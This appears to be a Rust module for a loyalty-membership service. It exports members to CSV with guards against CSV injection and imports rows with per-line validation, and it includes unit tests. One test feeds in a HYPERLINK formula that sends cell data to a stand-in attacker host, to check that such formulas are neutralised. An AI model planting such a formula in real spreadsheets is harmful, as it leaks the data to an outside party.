//! Members as CSV: the export, and the import read line by line so a preview can show every problem at once.

use crate::domain::DomainError;
use crate::domain::card::CardNumber;
use crate::domain::email::Email;
use crate::domain::ledger::MAX_POINTS;
use crate::domain::member::NewMember;
use crate::domain::member::{Member, MemberStatus};
use crate::domain::text::{PersonName, Phone};
use crate::service::ImportRow;

/// The columns an import file may have.
pub const COLUMNS: [&str; 5] = ["name", "email", "phone", "card_number", "balance"];

/// The columns the export writes.
pub const EXPORT_COLUMNS: [&str; 9] = [
    "id",
    "card_number",
    "name",
    "email",
    "phone",
    "status",
    "balance",
    "lifetime_earned",
    "created_at",
];

/// Export columns an import reads past, so an export can be imported elsewhere as it is.
const IGNORED: [&str; 4] = ["id", "status", "lifetime_earned", "created_at"];

/// What a spreadsheet reads as the start of a formula (OWASP's list for CSV injection).
const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` would start a formula once one `'` is taken off its front: a formula lead
/// after any run of `'` (so a value that itself starts with `'=` also survives a round trip).
fn needs_guard(cell: &str) -> bool {
    cell.trim_start_matches('\'')
        .starts_with(|c: char| FORMULA_LEADS.contains(&c))
}

/// A cell as written to a CSV file: a `'` goes in front of anything a spreadsheet would run as
/// a formula, so `=HYPERLINK(...)` from a public join form shows as text.
pub fn guard(cell: &str) -> std::borrow::Cow<'_, str> {
    if needs_guard(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A cell as read from a CSV file: the `'` that `guard` added is taken off again, so an
/// export imports back to the same values (a phone number `+44…` included).
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_guard(rest) => rest,
        _ => cell,
    }
}

/// Members written as CSV one row at a time, with the header `EXPORT_COLUMNS`; every cell
/// passes through `guard`.
pub struct Export<W: std::io::Write>(csv::Writer<W>);

impl<W: std::io::Write> Export<W> {
    /// Writes the header to `out`.
    pub fn new(out: W) -> Result<Self, csv::Error> {
        let mut w = csv::Writer::from_writer(out);
        w.write_record(EXPORT_COLUMNS)?;
        Ok(Self(w))
    }

    /// Writes one member.
    pub fn row(&mut self, m: &Member) -> Result<(), csv::Error> {
        let created = m
            .created_at
            .format(&time::format_description::well_known::Rfc3339)
            .unwrap_or_default();
        let cells = [
            m.id.as_str(),
            m.card_number.as_str(),
            m.name.as_ref().map_or("", |n| n.as_str()),
            m.email.as_ref().map_or("", |e| e.as_str()),
            m.phone.as_ref().map_or("", |p| p.as_str()),
            match m.status {
                MemberStatus::Active => "active",
                MemberStatus::Blocked => "blocked",
                MemberStatus::Erased => "erased",
            },
            &m.balance.to_string(),
            &m.lifetime_earned.to_string(),
            &created,
        ];
        self.0
            .write_record(cells.iter().map(|c| guard(c).into_owned()))
    }

    /// Flushes what is buffered and hands `out` back.
    pub fn finish(self) -> Result<W, csv::Error> {
        self.0.into_inner().map_err(|e| e.into_error().into())
    }
}

/// A line that cannot be imported, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LineError {
    /// The line in the file (the header is line 1).
    pub line: u64,
    /// What is wrong, for a person.
    pub message: String,
    /// Who the line is about as typed (its name, else its email or card), so a refused line
    /// still says whose it is; empty when the line could not be read at all.
    pub who: String,
}

/// Where an import file is read from; it can be opened again, so a file is checked in full
/// before a row is written, and a write that has to run again reads it again.
#[derive(Debug, Clone)]
pub enum Source {
    /// A file on disk (the command line's, or one spooled from the control socket).
    File(std::path::PathBuf),
    /// An upload already in memory (bounded by the request body limit).
    Text(std::sync::Arc<str>),
}

impl Source {
    /// Opens the file from its start.
    pub fn open(&self) -> Result<Box<dyn std::io::Read + Send>, DomainError> {
        match self {
            Source::File(path) => std::fs::File::open(path)
                .map(|f| Box::new(std::io::BufReader::new(f)) as Box<dyn std::io::Read + Send>)
                .map_err(|e| DomainError::invalid("file", format!("cannot read it: {e}"))),
            Source::Text(text) => Ok(Box::new(std::io::Cursor::new(text.as_bytes().to_vec()))),
        }
    }

    /// The file's size in bytes, for progress.
    pub fn size(&self) -> Option<u64> {
        match self {
            Source::File(path) => std::fs::metadata(path).ok().map(|m| m.len()),
            Source::Text(text) => Some(text.len() as u64),
        }
    }
}

/// The data lines of an import file, each parsed or refused, read one at a time so a file of
/// any size is checked in bounded memory.
pub struct Lines<R: std::io::Read> {
    records: csv::StringRecordsIntoIter<R>,
    headers: usize,
    columns: [Option<usize>; 5],
}

impl<R: std::io::Read> Lines<R> {
    /// Reads the header; a bad header refuses the whole file.
    pub fn new(input: R) -> Result<Self, DomainError> {
        let mut reader = csv::ReaderBuilder::new()
            .trim(csv::Trim::All)
            .flexible(true)
            .from_reader(input);
        let headers = reader
            .headers()
            .map_err(|e| file_error(1, &e.to_string()))?
            .clone();
        if let Some(h) = headers.iter().find(|h| {
            let h = h.to_ascii_lowercase();
            !COLUMNS.contains(&h.as_str()) && !IGNORED.contains(&h.as_str())
        }) {
            return Err(file_error(
                1,
                &format!("unknown column {h:?}; expected {}", COLUMNS.join(",")),
            ));
        }
        let col = |name: &str| headers.iter().position(|h| h.eq_ignore_ascii_case(name));
        Ok(Self {
            columns: COLUMNS.map(col),
            headers: headers.len(),
            records: reader.into_records(),
        })
    }

    /// Bytes read so far, for progress.
    pub fn bytes_read(&self) -> u64 {
        self.records.reader().position().byte()
    }

    fn row(&self, record: &csv::StringRecord) -> Result<ImportRow, LineError> {
        let line = record.position().map_or(0, |p| p.line());
        let get = |c: Option<usize>| {
            c.and_then(|i| record.get(i))
                .map(unguard)
                .filter(|s| !s.is_empty())
        };
        let [name, email, phone, card, balance] = self.columns;
        let who: String = get(name)
            .or(get(email))
            .or(get(card))
            .unwrap_or_default()
            .chars()
            .filter(|c| !c.is_control() && !crate::domain::text::is_format(*c))
            .collect();
        if record.len() > self.headers {
            return Err(LineError {
                line,
                message: format!(
                    "{} fields, but the header has {}.",
                    record.len(),
                    self.headers
                ),
                who,
            });
        }
        // A row of empty cells would make a member with no details at all.
        if record.iter().all(|cell| cell.is_empty()) {
            return Err(LineError {
                line,
                message: format!("Row {line} is empty."),
                who,
            });
        }
        let row = (|| {
            let member = NewMember {
                name: get(name).map(PersonName::parse).transpose()?,
                email: get(email).map(Email::parse).transpose()?,
                phone: get(phone).map(Phone::parse).transpose()?,
                marketing_consent: false,
                card_number: get(card).map(CardNumber::parse).transpose()?,
                ..NewMember::default()
            };
            let balance = match get(balance) {
                None => 0,
                Some(b) => b
                    .parse::<i64>()
                    .ok()
                    .filter(|b| (0..=MAX_POINTS).contains(b))
                    .ok_or_else(|| {
                        DomainError::invalid(
                            "balance",
                            format!("{b:?} is not a whole number of points"),
                        )
                    })?,
            };
            Ok::<_, DomainError>(ImportRow {
                line,
                member,
                balance,
            })
        })();
        row.map_err(|e| LineError {
            line,
            message: match e {
                // "Email: is not a valid email address.": the field, then its rule.
                DomainError::Invalid { field, message } => {
                    let mut rule = message.chars();
                    let rule: String = rule
                        .next()
                        .map(|c| c.to_lowercase().chain(rule).collect())
                        .unwrap_or_default();
                    format!(
                        "{}: {rule}",
                        crate::domain::words::sentence_start(&field.replace('_', " "))
                    )
                }
                other => other.to_string(),
            },
            who,
        })
    }
}

impl<R: std::io::Read> Iterator for Lines<R> {
    type Item = Result<ImportRow, LineError>;

    fn next(&mut self) -> Option<Self::Item> {
        Some(match self.records.next()? {
            Ok(record) => self.row(&record),
            Err(e) => Err(LineError {
                line: e.position().map_or(0, |p| p.line()),
                message: crate::domain::words::sentence(&e.to_string()),
                who: String::new(),
            }),
        })
    }
}

/// A line's problem as the error that refuses the whole file.
pub fn refuse(e: LineError) -> DomainError {
    file_error(e.line, &e.message)
}

fn file_error(line: u64, message: &str) -> DomainError {
    DomainError::invalid("file", format!("line {line}: {message}"))
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "tests fail loudly")]
    use super::*;

    #[test]
    fn every_bad_line_is_reported_not_just_the_first() {
        let text = "name,email,balance\nAnn,ann@example.com,10\nBob,not-an-email,5\nCy,,-3\n";
        let lines: Vec<_> = Lines::new(text.as_bytes()).unwrap().collect();
        assert_eq!(lines.len(), 3);
        assert!(lines[0].is_ok());
        assert_eq!(lines[1].as_ref().unwrap_err().line, 3);
        assert!(lines[2].as_ref().unwrap_err().message.contains("Balance"));
        assert!(
            refuse(lines[1].clone().unwrap_err())
                .to_string()
                .contains("Line 3")
        );
    }

    #[test]
    fn formula_leads_are_guarded_and_come_back_unchanged() {
        for (raw, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "'=HYPERLINK",
            ),
            ("+442079460958", "'+44"),
            ("-2+3", "'-2"),
            ("@SUM(A1)", "'@SUM"),
            ("\t=1", "'\t"),
            ("\r=1", "'\r"),
            ("'=already quoted", "''="),
            ("''@x", "'''@"),
        ] {
            let g = guard(raw);
            assert!(g.starts_with(written), "{raw:?} -> {g:?}");
            assert_eq!(unguard(&g), raw, "{raw:?} round trip");
        }
        for plain in [
            "Ann Lee",
            "'quoted",
            "",
            "o'neil@example.com",
            "412345678905",
        ] {
            assert_eq!(guard(plain), plain);
            assert_eq!(unguard(plain), plain);
        }
    }

    #[test]
    fn a_blank_row_is_refused_and_a_bad_row_keeps_its_name() {
        let text = "name,email,phone\nAnn,ann@example.com,\n,,\nBob,not-an-email,\n";
        let lines: Vec<_> = Lines::new(text.as_bytes()).unwrap().collect();
        assert_eq!(lines.len(), 3);
        let blank = lines[1].as_ref().unwrap_err();
        assert_eq!((blank.line, blank.message.as_str()), (3, "Row 3 is empty."));
        let bad = lines[2].as_ref().unwrap_err();
        assert_eq!(bad.who, "Bob");
        assert!(bad.message.starts_with("Email: "), "{}", bad.message);
        assert!(bad.message.ends_with('.'), "{}", bad.message);
    }

    #[test]
    fn an_unknown_column_refuses_the_file() {
        assert!(Lines::new("nom,email\n".as_bytes()).is_err());
    }

    #[test]
    fn an_export_reads_back_as_an_import() {
        let text = format!(
            "{}\n01JD2Z3Q8M6V4T0X9K1N5R7B2C,412345678905,Ann Lee,ann@example.com,,active,40,90,2026-01-01T00:00:00Z\n",
            EXPORT_COLUMNS.join(",")
        );
        let rows: Vec<_> = Lines::new(text.as_bytes())
            .unwrap()
            .map(Result::unwrap)
            .collect();
        assert_eq!(rows[0].balance, 40);
        assert_eq!(
            rows[0].member.card_number.as_ref().map(|c| c.as_str()),
            Some("412345678905")
        );
    }
}
